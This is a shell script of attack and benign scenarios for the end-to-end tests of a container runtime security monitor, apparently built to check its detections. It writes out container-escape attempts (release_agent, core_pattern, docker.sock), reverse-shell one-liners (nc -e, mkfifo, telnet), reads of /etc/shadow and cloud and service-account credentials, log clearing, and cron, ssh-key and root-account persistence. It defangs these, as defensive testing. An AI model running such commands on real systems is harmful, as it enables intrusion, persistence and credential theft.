#!/bin/sh
# Attack and benign scenarios for Keelwatch's end-to-end suite, run inside local/kw-e2e containers:
#   docker run [flags the scenario needs] local/kw-e2e:1 scenario NAME [ARGS]
# Every attack is the real system call sequence of the technique, made harmless: host knobs are written back with
# the value they already hold, the host disk is mounted read-only (which the kernel refuses while it is mounted
# read-write: the attempt is what is audited), runtime binaries are opened for write only through read-only
# mounts, and network targets are loopback, containers on an internal bridge, or unroutable (--network none).
# Each scenario ends with "scenario NAME done" on stdout.
set -u
name="${1:?scenario name}"
shift
h=/usr/local/bin/kwhelper
case "$name" in
  # ---- container escape ----
  core-pattern)      # needs --cap-add SYS_ADMIN --security-opt systempaths=unconfined
    v="$(cat /proc/sys/kernel/core_pattern)"; $h write /proc/sys/kernel/core_pattern "$v" ;;
  release-agent)     # CVE-2022-0492 shape: mount an unused cgroup v1 controller, write release_agent
    mkdir -p /mnt/cg
    $h mount cgroup /mnt/cg cgroup "${1:-net_prio}"
    v="$(cat /mnt/cg/release_agent 2>/dev/null)"
    $h write /mnt/cg/release_agent "$v"
    $h write /mnt/cg/notify_on_release 0
    umount /mnt/cg 2>/dev/null ;;
  disk-mount)        # needs --device /dev/vda:/dev/vda:r ; the kernel refuses the ro mount of a rw-mounted disk
    $h mount "${1:-/dev/vda}" /mnt/host ext4 ro ;;
  nsenter-host)      # needs --pid=host --cap-add SYS_ADMIN,SYS_PTRACE; ARG: pid of a host process (pid 1 may be
                     # a sandbox supervisor that refuses ptrace access)
    nsenter -t "${1:?host pid}" -m -u -n -i -p -- /bin/true && echo "kwhelper: nsenter: ok"
    $h setns "/proc/$1/ns/mnt" ;;
  docker-sock)       # needs -v /var/run/docker.sock:/var/run/docker.sock
    $h unix /var/run/docker.sock ;;
  module-load)       # needs --cap-add SYS_MODULE
    $h modload ;;
  ptrace)            # needs --cap-add SYS_PTRACE
    $h ptrace ;;
  runc-overwrite)    # needs -v /usr/sbin/runc:/host/runc:ro ; CVE-2019-5736 shape, never writes
    $h openw /proc/self/exe
    $h openw /host/runc ;;
  unshare)           # needs --security-opt seccomp=unconfined --cap-add SYS_ADMIN
    $h unshare user
    $h unshare mount ;;
  # ---- crypto-mining ----
  miner-name)
    /usr/local/bin/xmrig noop ;;
  stratum-args)
    $h noop -o stratum+tcp://pool.example.org:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A --donate-level=0 ;;
  pool-port)         # --network none: ENETUNREACH before any packet exists
    $h connect "${1:-198.51.100.7}" 3333 ;;
  drift-exec)        # a binary written after start into a hidden dir under /tmp, then executed
    mkdir -p /tmp/.cache && cp $h /tmp/.cache/kworker && chmod 0755 /tmp/.cache/kworker && /tmp/.cache/kworker noop ;;
  # ---- host-mount abuse (host paths mounted at /host/...) ----
  sensitive-mount)   # needs -v /etc:/host/etc:ro ; the mount itself is the finding, then it idles
    sleep "${1:-8}"; echo "kwhelper: idled" ;;
  host-write)        # needs -v /etc:/host/etc ; creates then removes a canary file in the host's /etc
    $h write "/host/etc/${1:?canary name}" "keelwatch e2e canary"
    rm -f "/host/etc/$1" ;;
  host-read)         # needs -v /etc:/host/etc:ro
    $h read /host/etc/shadow ;;
  # ---- lateral probing ----
  port-scan)         # target: a container on the internal bridge
    $h scan "${1:?target ip}" 1 40 ;;
  host-sweep)        # target: the internal bridge's subnet prefix, e.g. 10.213.7.
    $h sweep "${1:?prefix}" 2 30 22 ;;
  metadata)          # --network none: no route, the attempt is what is audited
    $h connect 169.254.169.254 80 ;;
  control-plane)     # target: a container on the internal bridge (ports are closed: refused)
    for p in 10250 10255 2379 2375 6443; do $h connect "${1:?target ip}" $p; done ;;
  reverse-shell)     # target: a listener container on the internal bridge; nc -e, the classic shape
    nc "${1:?listener ip}" "${2:-4444}" -e /bin/sh ;;
  reverse-shell-stdio)  # a shell whose stdin/stdout/stderr are a TCP socket, without nc (dup2 + exec)
    $h revshell "${1:?listener ip}" "${2:-4444}" ;;
  listener)          # the reverse shell's other end: feeds the shell two commands, then closes
    (echo 'id'; sleep "${2:-4}"; echo 'exit') | nc -l -p "${1:-4444}" >/dev/null ;;
  # ---- runtime threats: drift and the interactive baseline ----
  # ---- runtime threats: persistence, credentials, evasion ----
  cron-persist)      # needs -v /etc/cron.d:/host/cron.d ; crontab into a private spool dir, then a canary cron file in
                     # the host's /etc/cron.d (a name with a dot: cron ignores it; a comment: nothing to run), removed
    mkdir -p /tmp/cron && echo '# keelwatch e2e canary' > /tmp/cron.txt && crontab -c /tmp/cron /tmp/cron.txt
    $h write "/host/cron.d/${1:?canary name}" "# keelwatch e2e canary: not a job"
    rm -f "/host/cron.d/$1" ;;
  ssh-key)           # needs -v HOSTDIR:/home/victim (a scratch dir below the host's /home)
    mkdir -p /home/victim/.ssh && $h write /home/victim/.ssh/authorized_keys "ssh-ed25519 AAAAkeelwatch-e2e canary" ;;
  sa-token)          # needs the kubelet projected-volume dir mounted at /var/run/secrets/kubernetes.io/serviceaccount:ro
    d=/var/run/secrets/kubernetes.io/serviceaccount
    cat $d/token | base64 | head -c 16; echo; cat $d/namespace ;;
  sa-token-app)      # benign: the application reads its own token with its own binary
    $h read /var/run/secrets/kubernetes.io/serviceaccount/token ;;
  cloud-creds)       # needs a credentials directory mounted at /root/.aws:ro
    cat /root/.aws/credentials | grep -c aws_access_key_id ;;
  log-clear)         # needs -v HOSTDIR:/var/log/app (a scratch dir below the host's /var/log holding app.log)
    : > /var/log/app/app.log; $h truncate /var/log/app/app.log; rm -f /var/log/app/app.log
    echo 'ls' > /root/.ash_history; : > /root/.ash_history; rm -f /root/.ash_history ;;
  log-append)        # benign: an application appending to its log through the same mount
    for i in 1 2 3; do echo "line $i" >> /var/log/app/app.log; done; cat /var/log/app/app.log | wc -l ;;
  ro-write)          # needs -v /etc/cron.d:/host/cron.d:ro -v HOSTDIR:/var/log/app:ro ; both writes are refused (EROFS)
    $h write /host/cron.d/keelwatch-e2e.canary "# never written"
    $h truncate /var/log/app/app.log
    rm -f /var/log/app/app.log 2>/dev/null; true ;;
  ro-read)           # benign: reading through the same read-only mounts
    ls /host/cron.d | wc -l; cat /var/log/app/app.log | wc -l ;;
  docker-api)        # needs -v /var/run/docker.sock:/var/run/docker.sock ; list, then a create the daemon refuses (404)
    ln -sf $h /tmp/curl
    /tmp/curl dockerapi /var/run/docker.sock GET /containers/json
    /tmp/curl dockerapi /var/run/docker.sock POST /containers/create ;;
  revshell-pipe)     # target: a listener; the shell reads commands from nc through a pipe (no -e, no dup2)
    nc "${1:?listener ip}" "${2:-4444}" | /bin/sh ;;
  revshell-fifo)     # the mkfifo reverse shell: fifo -> sh -i -> nc -> fifo, as the one-liner an RCE runs with sh -c
    /bin/sh -c "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc ${1:?listener ip} ${2:-4444} > /tmp/f; rm -f /tmp/f" ;;
  revshell-telnet)   # telnet-style: commands from telnet piped into a shell
    telnet "${1:?listener ip}" "${2:-4444}" | /bin/sh ;;
  # ---- runtime baseline (drift, sessions, packages) ----
  drop-exec)         # a program copied in after start (as a download would), made executable and run from /var/lib
    mkdir -p /var/lib/kwdrop && cp /bin/busybox /var/lib/kwdrop/true && chmod 0755 /var/lib/kwdrop/true
    /var/lib/kwdrop/true && rm -rf /var/lib/kwdrop ;;
  setuid-bit)        # a root shell kept for later: a copy of the shell with the setuid bit
    cp /bin/busybox /tmp/.kwsh && chmod 4755 /tmp/.kwsh && ls -l /tmp/.kwsh && rm -f /tmp/.kwsh ;;
  pkg-install)       # a package manager run in the running container (the image's apk stand-in refuses the command)
    apk add --no-cache nmap || echo "apk refused" ;;
  etc-write)         # a second root account appended to the container's own /etc/passwd
    echo 'kwroot:x:0:0::/root:/bin/sh' >> /etc/passwd && grep -c kwroot /etc/passwd ;;
  bin-write)         # a program planted in the container's /usr/bin, shadowing nothing yet
    cp /bin/busybox /usr/bin/kwtool && ls -l /usr/bin/kwtool ;;
  app-dirs)          # benign: an entrypoint making its data and cache directories searchable (chmod of directories)
    mkdir -p /tmp/app/cache /tmp/app/data && chmod 0755 /tmp/app/cache && chmod 0750 /tmp/app/data && ls -ld /tmp/app/* ;;
  # ---- stale containers ----
  long-lived)
    sleep "${1:-600}" ;;
  # ---- benign ----
  web-server)
    httpd -f -p 80 -h /var/www ;;
  web-client)        # normal traffic between containers
    for i in 1 2 3 4 5; do wget -q -O /dev/null "http://${1:?server}/index.html" && echo "fetched $i"; sleep 0.2; done ;;
  shell-work)
    ls / | wc -l; date; grep root /etc/passwd; mkdir -p /tmp/work && cd /tmp/work && echo 'data' > a.txt \
      && tar cf a.tar a.txt && gzip -f a.tar && ls -l ;;
  tmp-build)         # a build step: a tree of sources under /tmp, compiled (copied), packed, cleaned
    mkdir -p /tmp/build/src /tmp/build/out && cd /tmp/build
    i=0; while [ $i -lt 400 ]; do echo "int f$i(void) { return $i; }" > src/f$i.c; i=$((i+1)); done
    for f in src/*.c; do cp "$f" "out/$(basename "$f" .c).o"; done
    tar cf /tmp/build.tar out && gzip -f /tmp/build.tar && ls -l /tmp/build.tar.gz && rm -rf /tmp/build ;;
  health-probe)      # what a Docker health check runs: a request to the service, exit status is the verdict
    wget -q -O /dev/null http://127.0.0.1/index.html ;;
  entrypoint-shell)  # the usual docker-entrypoint.sh: environment and config set up by sh, then exec the program
    sh -c 'export APP_MODE=production; mkdir -p /tmp/app && echo "mode=$APP_MODE" > /tmp/app/app.conf; \
      [ -f /tmp/app/app.conf ] && exec cat /tmp/app/app.conf' ;;
  read-passwd)       # what many programs do at start: who am I, what users and groups exist
    id; whoami; cat /etc/passwd | wc -l; grep -c . /etc/group; head -1 /etc/passwd ;;
  dns-lookups)       # name look-ups through Docker's embedded DNS on the internal bridge (nothing routable)
    for i in 1 2 3; do nslookup "${1:?name of a container on the bridge}" || true; done
    echo "looked up $1" ;;
  *)
    echo "unknown scenario $name" >&2; exit 2 ;;
esac
echo "scenario $name done"
